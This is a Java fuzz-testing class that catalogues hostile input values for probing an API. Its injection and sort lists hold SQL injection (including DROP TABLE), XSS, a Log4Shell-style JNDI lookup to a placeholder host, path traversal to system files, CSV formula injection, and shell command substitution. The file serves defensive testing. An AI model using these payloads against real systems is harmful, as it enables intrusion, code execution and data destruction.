package org.mhaqi.testing.fuzz;

import java.util.List;

/**
 * The catalogue of hostile inputs the fuzzer draws from. Strings are the decoded values; where a
 * value cannot be a Java string (an overlong UTF-8 sequence) it is written with {@link #OVERLONG},
 * which {@link RequestText#utf8} turns into the raw bytes.
 */
final class HostileValues {

  /** Stands for the overlong two-byte encoding of '/' (0xC0 0xAF), invalid UTF-8. */
  static final char OVERLONG = '\uE000';

  static final List<String> INJECTIONS =
      List.of(
          "' OR 1=1--",
          "'; DROP TABLE audit_event;--",
          "1; SELECT pg_sleep(0)--",
          "\" OR \"\"=\"",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "${jndi:ldap://x.invalid/a}",
          "#{7*7}",
          "{{7*7}}",
          "a\r\nX-Injected: yes",
          "line\r\n\r\n<html>",
          "../../../../etc/passwd",
          "..\\..\\..\\windows\\win.ini",
          "%00",
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "$(id)`id`",
          "%s%s%s%n",
          "\\u0000",
          "*)(uid=*))(|(uid=*");

  /** Well-formed strings that are still trouble: control, invisible and directional characters. */
  static final List<String> UNICODE =
      List.of(
          "nul\u0000byte",
          "\u0000",
          "\u202Eevil\u202C.txt",
          "\u200F\u200E\u200B\u2060",
          "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66",
          "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359a\u0300\u0301\u0302\u0303lgo",
          "\uFEFFbom",
          "\u0085\u2028\u2029",
          "\uFFFF\uFFFE",
          "\u00A0\u3000",
          "I\u0307stanbul \u0130\u0131 \u00DF\u1E9E",
          "\u0007\u001B[31mred\u001B[0m");

  /** Invalid in UTF-8 or in UTF-16, written as JSON escapes (lone surrogates) or raw bytes. */
  static final List<String> BROKEN_UNICODE_JSON =
      List.of("\"\\ud800\"", "\"a\\udc00b\"", "\"\\ud83d\"", "\"x" + OVERLONG + "y\"");

  /** JSON number tokens (and strings pretending to be numbers) at and past every limit. */
  static final List<String> NUMBERS =
      List.of(
          "1e309",
          "-1e309",
          "-0",
          "-0.0",
          "9223372036854775808",
          "-9223372036854775809",
          "2147483648",
          "-2147483649",
          "123456789012345678901234567890123456789",
          "1e-400",
          "0.1e-999999999",
          "1e999999999",
          "-1",
          "0",
          "3.5",
          "\"NaN\"",
          "\"Infinity\"",
          "\"-Infinity\"",
          "\"0x1F\"",
          "\"1e3\"");

  /** Dates and times that are extreme, impossible or malformed. */
  static final List<String> DATES =
      List.of(
          "0000-01-01",
          "+999999999-12-31",
          "-999999999-01-01",
          "2024-02-30",
          "2023-02-29",
          "2024-13-01",
          "2024-00-10",
          "-1",
          "2024-1-1",
          "24-01-01",
          "01/02/2024",
          "2024-02-29T25:61:00Z",
          "1970-01-01T00:00:00Z",
          "9999-12-31T23:59:59.999999999Z",
          "+1000000000-01-01T00:00:00Z",
          "2024-03-31T01:30:00+14:00",
          "2024-W01-1",
          "2024-13",
          "2024-00",
          "9999-12",
          "0000-00",
          "");

  /** Query parameter values beyond what pages, sizes and numbers allow. */
  static final List<String> EXTREME_QUERY_NUMBERS =
      List.of(
          "-1",
          "0",
          "100000000",
          "2147483648",
          "9223372036854775808",
          "-9223372036854775809",
          "1e3",
          "1.5",
          "NaN",
          "");

  /** Wrong-typed query values whatever the parameter's type. */
  static final List<String> WRONG_QUERY_TYPES =
      List.of("abc", "true", "[]", "{}", "1,2,3", "null", "undefined", "\u0000", "-");

  /** Sort parameters that name no property, bad directions or SQL. */
  static final List<String> SORTS =
      List.of(
          "nosuchproperty,desc",
          "id,sideways",
          "name;drop table x",
          ",",
          "(select 1)",
          "id,desc,asc,extra",
          "class.classLoader",
          "");

  private HostileValues() {}
}
